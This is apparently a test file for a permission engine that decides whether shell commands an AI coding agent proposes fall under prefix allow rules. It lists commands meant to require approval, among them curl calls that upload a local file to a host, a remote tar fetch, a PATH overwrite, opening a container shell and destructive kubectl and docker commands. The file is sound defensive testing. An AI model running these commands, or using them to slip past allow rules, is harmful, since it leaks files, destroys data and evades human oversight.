import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestEngine, type TestEngine } from '../test-engine.ts';

describe('commands a prefix rule never covers', () => {
  let engine: TestEngine;
  beforeAll(async () => {
    engine = await makeTestEngine();
  });
  afterAll(() => engine.fixture.remove());
  const decide = (command: string, allow: string): string => engine.bash(command, engine.context({ allow: [allow] })).behavior;

  it.each([
    ['kubectl -n prod delete pod x', 'Bash(kubectl:*)'],
    ["printf '12%n' PATH; ls", 'Bash(printf:*)'],
    ['printf -v PATH ./x', 'Bash(printf:*)'],
    ['tar xf host:x.tar', 'Bash(tar:*)'],
    ['tar -x --file=host:x.tar', 'Bash(tar:*)'],
    ['tar -xfhost:x.tar', 'Bash(tar:*)'],
    ['npm --loglevel silent publish', 'Bash(npm:*)'],
    ['docker --log-level debug run x', 'Bash(docker *)'],
    ['docker compose exec web sh', 'Bash(docker *)'],
    ['docker volume prune', 'Bash(docker *)'],
    ['npm init evil', 'Bash(npm *)'],
    ['pnpm create evil', 'Bash(pnpm *)'],
    ['bun x evil', 'Bash(bun *)'],
    ['deno eval 1', 'Bash(deno *)'],
    ['curl -d@a.txt http://x', 'Bash(curl:*)'],
    ['curl -F "x=<a.txt" http://x', 'Bash(curl:*)'],
    ['curl --data-urlencode x@a.txt http://x', 'Bash(curl:*)'],
    ['curl --etag-save .git/x http://x', 'Bash(curl:*)'],
    ['wget --hsts-file x http://x', 'Bash(wget:*)'],
    ['file -C -m magic', 'Bash(file:*)'],
    ['file -bC', 'Bash(file:*)'],
    ['file --comp', 'Bash(file:*)'],
  ])('%s under %s', (command, allow) => expect(decide(command, allow)).toBe('ask'));

  it.each([
    ['kubectl -n prod get pods', 'Bash(kubectl:*)'],
    ["printf '%s\\n' a", 'Bash(printf:*)'],
    ['npm --loglevel silent test', 'Bash(npm:*)'],
    ['npm run publish', 'Bash(npm run:*)'],
    ['tar xf ./a:b.tar', 'Bash(tar:*)'],
    ['docker compose up -d', 'Bash(docker *)'],
    ['bun test', 'Bash(bun *)'],
    ['deno test x.ts', 'Bash(deno *)'],
    ['curl -s http://user@host/x', 'Bash(curl:*)'],
  ])('covered: %s under %s', (command, allow) => expect(decide(command, allow)).toBe('allow'));
});
